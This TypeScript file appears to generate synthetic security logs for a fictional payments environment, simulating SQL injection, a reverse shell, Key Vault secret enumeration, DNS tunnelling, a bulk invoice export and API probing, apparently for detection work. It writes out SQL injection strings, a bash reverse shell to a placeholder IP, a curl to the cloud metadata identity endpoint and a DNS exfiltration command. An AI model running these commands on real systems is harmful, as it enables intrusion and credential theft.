import type { LogEvent } from '../../ingest.ts';
import { machineNamed, places, svcPayReport, things } from '../estate.ts';
import { apiCall, firewallRule, secret, statement, webAttack } from '../events/azure.ts';
import { connection, deviceProcess } from '../events/devices.ts';
import { scan, sensitivityLabels } from '../events/labels.ts';
import { flow, lookup, syslog } from '../events/network.ts';
import type { Story } from './story.ts';

const web = machineNamed('vm-pay-web-01');
const attacker = places.rotterdam.ip;
const identity = { oid: '5e0c2f7a-41d9-4b66-8a1f-20c7d3b9e614', name: web.id };

const sqlInjection: Story = ({ dice, before, spread }) => {
  const inputs = [
    "'",
    "' or 1=1 --",
    "' union select null, null --",
    "' union select table_name, null from information_schema.tables --",
  ];
  const scanned = ['cards', 'invoices', 'refunds'].map((table, n) =>
    scan(dice, {
      at: before(2 * 24 * 60 + n),
      source: things.sql.replace(/\/databases\/.*$/, ''),
      type: 'azuresql',
      asset: `mssql://sql-payments.database.windows.net/payments/dbo/${table}`,
      label: table === 'cards' ? sensitivityLabels.highlyConfidential : sensitivityLabels.confidential,
      classifications: { cards: ['Credit Card Number'], invoices: ['All Full Names'] }[table] ?? [],
    }),
  );
  const statements = spread(48, 6, 2).flatMap((at, n) => {
    const input = inputs[Math.min(inputs.length - 1, Math.floor(n / 12))] ?? '';
    const ok = input.includes('union');
    return [
      request(
        at,
        `https://pay.contoso.com/invoices/search?reference=${encodeURIComponent(input)}`,
        ok,
        dice.hex(32),
      ),
      statement(dice, {
        at: at + 20,
        login: 'pay_web',
        from: web.ip,
        application: 'pay-web',
        statement: `select * from invoices where reference = '${input}'`,
        rows: ok ? 118 : 0,
        host: web.name,
        succeeded: ok,
      }),
      ...(ok ? [] : [exception(at + 25, dice.hex(32))]),
      // It only notes what it sees: somebody never switched it to blocking.
      webAttack(dice, {
        at: at - 5,
        from: attacker,
        host: 'pay.contoso.com',
        path: `/invoices/search?reference=${encodeURIComponent(input)}`,
        rule: '942100',
        message: 'SQL Injection Attack Detected via libinjection',
        action: 'Detected',
      }),
    ];
  });
  return [...scanned, ...statements];
};

function request(at: number, url: string, ok: boolean, operation: string): LogEvent {
  return {
    table: 'AppRequests',
    at,
    values: {
      Id: operation.slice(0, 16),
      Name: 'GET /invoices/search',
      Url: url,
      Success: ok,
      ResultCode: ok ? '200' : '500',
      DurationMs: ok ? 412 : 33,
      OperationName: 'GET /invoices/search',
      OperationId: operation,
      AppRoleName: 'pay-web',
      AppRoleInstance: web.name,
      ClientType: 'PC',
      ClientIP: attacker,
      ClientCity: 'Rotterdam',
      ClientCountryOrRegion: 'Netherlands',
      ItemCount: 1,
      Properties: { userAgent: 'sqlmap/1.8.6#stable' },
      SourceSystem: 'Application Insights',
      _ResourceId: things.payApp.toLowerCase(),
    },
  };
}

function exception(at: number, operation: string): LogEvent {
  return {
    table: 'AppExceptions',
    at,
    values: {
      ProblemId: 'SqlException at Invoices.Search',
      ExceptionType: 'SqlException',
      OuterType: 'SqlException',
      OuterMessage: "Unclosed quotation mark after the character string ''.",
      InnermostMessage: 'Incorrect syntax near the end.',
      SeverityLevel: 3,
      OperationName: 'GET /invoices/search',
      OperationId: operation,
      AppRoleName: 'pay-web',
      AppRoleInstance: web.name,
      ClientIP: attacker,
      ItemCount: 1,
      Properties: {},
      _ResourceId: things.payApp.toLowerCase(),
    },
  };
}

const reverseShell: Story = ({ dice, before, spread }) => {
  const shell = "bash -c 'exec bash -i &>/dev/tcp/203.0.113.66/4444 <&1'";
  const nginx = { path: '/usr/sbin/nginx', commandLine: 'nginx: worker process', pid: 1184 };
  const bash = { path: '/usr/bin/bash', commandLine: shell, pid: 40_213 };
  const run = (minutes: number, path: string, commandLine: string, parent = bash) =>
    deviceProcess(dice, {
      machine: web,
      at: before(minutes),
      account: 'www-data',
      path,
      commandLine,
      parent,
    });
  return [
    deviceProcess(dice, {
      machine: web,
      at: before(5),
      account: 'www-data',
      path: bash.path,
      commandLine: shell,
      pid: bash.pid,
      parent: nginx,
    }),
    connection(dice, {
      machine: web,
      at: before(4.99),
      account: 'www-data',
      path: bash.path,
      commandLine: shell,
      to: attacker,
      port: 4444,
      pid: bash.pid,
    }),
    flow(dice, {
      at: before(4.98),
      from: web.ip,
      to: attacker,
      port: 4444,
      direction: 'Outbound',
      allowed: true,
      machine: web,
      sent: 48_213,
      received: 9_120,
      rule: 'AllowInternetOutBound',
      country: 'nl',
    }),
    syslog(
      web,
      before(4.97),
      'auth',
      'notice',
      'audit',
      `type=EXECVE msg=audit: argc=3 a0="bash" a1="-c" a2="exec bash -i &>/dev/tcp/203.0.113.66/4444 <&1" uid=33`,
      40_213,
    ),
    ...spread(60, 40, 8).map((at) =>
      firewallRule(dice, { at, from: attacker, to: '10.20.4.12', port: 22, allowed: false }),
    ),
    run(4.9, '/usr/bin/id', 'id'),
    run(4.8, '/usr/bin/uname', 'uname -a'),
    run(4, '/usr/bin/curl', 'curl -s http://169.254.169.254/metadata/identity'),
    connection(dice, {
      machine: web,
      at: before(3.99),
      account: 'www-data',
      path: '/usr/bin/curl',
      commandLine: 'curl -s http://169.254.169.254/metadata/identity',
      to: '169.254.169.254',
      port: 80,
    }),
    run(3, '/usr/bin/ls', 'ls /var/www/pay-web/config'),
    ...spread(12, 4.5, 2).map((at) =>
      syslog(
        web,
        at,
        'daemon',
        'err',
        'nginx',
        `upstream sent invalid header while reading response header from upstream, client: ${attacker}, server: pay.contoso.com`,
        1184,
      ),
    ),
  ];
};

const keyVaultEnumeration: Story = ({ dice, spread }) => {
  const names = Array.from({ length: 34 }, (_, n) =>
    n === 0 ? 'sql-payments-connection' : `payment-key-${String(n).padStart(2, '0')}`,
  );
  return [
    ...spread(34, 4, 3.2).map((at) =>
      secret(dice, { at, operation: 'SecretList', ...identity, from: web.ip }),
    ),
    ...spread(31, 3.1, 2).map((at, n) =>
      secret(dice, { at, operation: 'SecretGet', ...identity, from: web.ip, secret: names[n] ?? '' }),
    ),
  ];
};

const dnsTunnel: Story = ({ dice, before, spread }) => [
  ...spread(2_918, 20, 2).map((at, n) =>
    lookup(dice, {
      at,
      client: web,
      name: `${dice.hex(48)}.${n}.sync.cdn-update.example`,
      type: 'TXT',
      answer: 'ok',
    }),
  ),
  connection(dice, {
    machine: web,
    at: before(20),
    account: 'www-data',
    path: '/tmp/.cache/dnsq',
    commandLine: '/tmp/.cache/dnsq -d sync.cdn-update.example /tmp/.cache/out.tgz',
    to: attacker,
    port: 53,
  }),
];

const unusualExport: Story = ({ dice, before, spread }) => [
  ...spread(8, 11, 3).map((at) =>
    statement(dice, {
      at,
      login: svcPayReport.name,
      from: '2001:db8:66::17',
      application: 'DBeaver 24.1',
      statement: 'select top 1000 * from payments.invoices',
      rows: 1_000,
    }),
  ),
  statement(dice, {
    at: before(2),
    login: svcPayReport.name,
    from: '2001:db8:66::17',
    application: 'DBeaver 24.1',
    statement: 'select * from payments.invoices',
    rows: 1_804_211,
  }),
];

const apiProbing: Story = ({ dice, spread }) =>
  spread(412, 27, 2).map((at, n) => {
    const found = n % 17 === 0 && n / 17 < 24;
    const operation = found ? `op-${n}` : '';
    return apiCall(dice, {
      at,
      from: attacker,
      method: n % 3 === 0 ? 'POST' : 'GET',
      path: `/payments/v2/${['admin', 'debug', 'internal', 'export', 'users'][n % 5]}/${n}`,
      operation,
      status: found ? 200 : n % 2 ? 404 : 405,
      agent: 'curl/8.9.1',
    });
  });

export const paymentStories: Record<string, Story> = {
  'sql-injection': sqlInjection,
  'vm-reverse-shell': reverseShell,
  'keyvault-enumeration': keyVaultEnumeration,
  'dns-tunnel': dnsTunnel,
  'sql-unusual-export': unusualExport,
  'api-probing': apiProbing,
  // What its four alerts left is told by their own stories.
  'campaign-payments': () => [],
};
